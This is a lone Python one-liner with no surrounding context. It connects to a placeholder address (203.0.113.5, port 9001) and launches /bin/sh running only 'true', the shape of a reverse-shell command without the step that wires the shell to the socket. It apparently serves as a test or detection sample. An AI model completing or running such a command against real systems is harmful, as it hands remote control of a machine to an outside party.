/usr/bin/python3 -c 'import socket,subprocess;s=socket.create_connection(("203.0.113.5",9001));subprocess.run(["/bin/sh","-c","true"])'
